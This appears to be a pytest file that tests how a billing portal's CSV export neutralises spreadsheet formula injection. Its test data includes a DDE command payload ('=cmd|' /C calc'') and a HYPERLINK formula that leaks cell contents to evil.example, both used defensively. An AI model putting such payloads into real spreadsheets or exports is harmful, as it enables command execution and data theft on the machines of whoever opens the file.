"""Lines of an export: what a spreadsheet reads back, and never a formula."""

import csv
import io
from typing import Any

import pytest

from portal import ledger, pricing
from portal.web import cells
from tests.web.desk import NOW

TARIFFS = pricing.Tariffs([pricing.shipped_tariff()])
ODD = (
    "",
    "a,b",
    'a"b',
    "a\r\nb",
    "a\nb",
    "a\rb",
    "a;b",
    "a; b",
    "a;b=1",
    "a;'=1",
    'say "-1"',
    "5 - 4 = 1",
    " a",
    "a b",
    "ünï",
    "💶",
    "a\0b",
    "'a",
    "1",
)
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "＝1+1", "＋1",
    "－1", "＠SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1;"ok")',
    "=", "-", "-1", "--", '="",=1', "@",
)  # fmt: skip
# Where a spreadsheet splits by something else, a formula may begin within a cell.
WITHIN = (
    "x;=1+1", "x;=1+1;y", "x;+1;y", "x;-1+1;y", "x;@SUM(1+1);y", "x\t=1+1\ty", "x\n=1+1", "x\r=1+1",
    "x\r\n=1+1;y", ";=1+1;", "x;＝1+1;y", "x;＋1;y", "x;－1;y", "x;＠SUM(1);y", "x;;\t=1+1\t;y",
    "x;\t=1+1;y", "x;\n=1+1;y", 'x;"=1+1;y', 'x;""=1+1;y', 'x;"""=1+1";y', 'x;"";=1+1;y',
    'x";=1+1;y', 'x;"\t"=1+1;y', "x;\0=1+1;y", "x;=1;=2;y\n-3\n", "=1;=2;y", "a;b;=1+1;y",
)  # fmt: skip


def row(**known: Any) -> tuple[Any, ...]:
    """A charge as an export reads it, usual but for what is named."""
    usual: dict[str, Any] = dict.fromkeys(ledger.Exported._fields) | {
        "id": "ent_1", "recorded_at": NOW, "kind": "debit", "operation": "generate",
        "quantity": 1204, "amount": -1204, "posted_after": 98_796, "reference_id": "job-1",
        "key_id": "studio-1", "reason": "usage", "tariff": TARIFFS[0].name,
    }  # fmt: skip
    return tuple(ledger.Exported(**(usual | known)))


def read(text: bytes) -> list[list[str]]:
    """What a reader of CSV makes of lines."""
    return list(csv.reader(io.StringIO(text.decode(), newline=""), strict=True))


def told(**known: Any) -> dict[str, str]:
    """One entry's line as it is read back, by column."""
    [found] = read(cells.lines([row(**known)], TARIFFS))
    return dict(zip(cells.COLUMNS, found, strict=True))


def test_a_line_says_what_the_entry_says() -> None:
    assert cells.lines([row()], TARIFFS) == (
        b"ent_1,2026-11-22T13:52:00.250000Z,debit,generate,1204,-1204,98796,job-1,,studio-1,"
        b"Generate speech\r\n"
    )
    bare = row(operation=None, quantity=None, reference_id=None, key_id=None, kind="grant",
               reason="allocation", amount=100)  # fmt: skip
    assert cells.lines([bare], TARIFFS).endswith(b",grant,,,100,98796,,,,Monthly allocation\r\n")
    assert told(quantity=0)["units"] == "0"
    assert cells.HEAD.decode() == ",".join(cells.COLUMNS) + "\r\n"
    assert cells.lines([], TARIFFS) == b""


@pytest.mark.parametrize(
    ("at", "shown"),
    [
        (0, "1970-01-01T00:00:00.000000Z"),
        (59_999_999, "1970-01-01T00:00:59.999999Z"),
        (951_782_400_000_001, "2000-02-29T00:00:00.000001Z"),
        (4_102_444_799_010_020, "2099-12-31T23:59:59.010020Z"),
    ],
)
def test_times_are_utc_to_the_microsecond(at: int, shown: str) -> None:
    assert told(recorded_at=at)["posted_at"] == shown


def test_many_lines_are_those_of_each() -> None:
    rows = [row(reference_id=text, note=text, recorded_at=NOW + n) for n, text in enumerate(ODD)]
    assert cells.lines(rows, TARIFFS) == b"".join(cells.lines([one], TARIFFS) for one in rows)
    assert len(read(cells.lines(rows, TARIFFS))) == len(rows)


@pytest.mark.parametrize("text", ODD)
def test_a_text_is_read_back_as_it_was(text: str) -> None:
    # A reader of Python's own stops at NUL in some versions: the cell is looked at itself.
    assert cells.cell(text).removeprefix('"').removesuffix('"').replace('""', '"') == text
    if "\0" not in text:
        found = told(reference_id=text, key_id=text, operation=text, reverses_id=text)
        names = ("reference", "api_key", "operation", "reverses")
        assert [found[name] for name in names] == [text] * 4


def split(text: str, by: str) -> list[str]:
    """The cells a spreadsheet makes of lines where it splits them by another sign.

    It drops NUL, with which some readers of Python's own stop.
    """
    lines = io.StringIO(text.replace("\0", ""), newline="")
    return [cell for row in csv.reader(lines, delimiter=by) for cell in row]


def formulas(cells: list[str]) -> list[str]:
    """Those that are formulas, whatever blanks and quotes a spreadsheet may leave out before."""
    return [cell for cell in cells if cell.lstrip('\t\r\n"').startswith(tuple("=+-@＝＋－＠"))]


@pytest.mark.gate
@pytest.mark.parametrize("text", [*FORMULAS, *SIGNS])
@pytest.mark.parametrize("name", ["reference_id", "key_id", "operation", "reverses_id"])
def test_no_text_is_taken_for_a_formula(name: str, text: str) -> None:
    line = cells.lines([row(**{name: text})], TARIFFS).decode()
    assert "\"'" + text[:1] in line
    if "\0" not in text:
        assert all(not each.startswith(SIGNS) for each in read(line.encode())[0][6:])


@pytest.mark.gate
@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN])
@pytest.mark.parametrize("name", ["reference_id", "key_id", "operation", "reverses_id"])
@pytest.mark.parametrize("by", [";", "\t"])
def test_no_text_is_one_however_it_is_split(name: str, text: str, by: str) -> None:
    line = cells.lines([row(**{name: text})], TARIFFS).decode()
    assert formulas(split(line, by)) == []


@pytest.mark.gate
@pytest.mark.parametrize("text", [*FORMULAS, *SIGNS])
def test_control_a_plain_writer_hands_formulas_on(text: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(["job-1", text, "Generate speech"])
    assert next(csv.reader(io.StringIO(written.getvalue(), newline="")))[1].startswith(SIGNS)


@pytest.mark.gate
@pytest.mark.parametrize("text", WITHIN)
def test_control_a_plain_writer_hands_those_within_on(text: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(["job-1", text, "Generate speech"])
    found = split(written.getvalue(), ";") + split(written.getvalue(), "\t")
    assert formulas(found)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("x;=1+1", "x;'=1+1"), ("=1;=2", "'=1;'=2"), ("a:\n- b\r\n- c", "a:\n'- b\r\n'- c"),
        ('x;"=1', "x;\"'=1"), ("x;\t=1", "x;\t'=1"), ("x;'=1", "x;'=1"), ("x; -1", "x; -1"),
        ("x,=1", "x,=1"), ("a=1;b=2", "a=1;b=2"),
    ],
)  # fmt: skip
def test_an_apostrophe_stands_before_the_sign_and_nowhere_else(text: str, written: str) -> None:
    assert read(cells.lines([row(reference_id=text)], TARIFFS))[0][7] == written


@pytest.mark.gate
def test_what_happened_is_guarded_as_a_whole() -> None:
    gone = told(operation="=dub", tariff=None)["description"]
    assert gone == "'=dub"
    noted = told(kind="refund", reason="goodwill", note='=1+1, "sorry"')["description"]
    assert noted == 'Generate speech: refunded as goodwill: =1+1, "sorry"'


@pytest.mark.gate
def test_numbers_stay_numbers() -> None:
    found = told(amount=-5, posted_after=-7)
    assert (found["credits"], found["balance_after"]) == ("-5", "-7")
    assert b",-5,-7," in cells.lines([row(amount=-5, posted_after=-7)], TARIFFS)
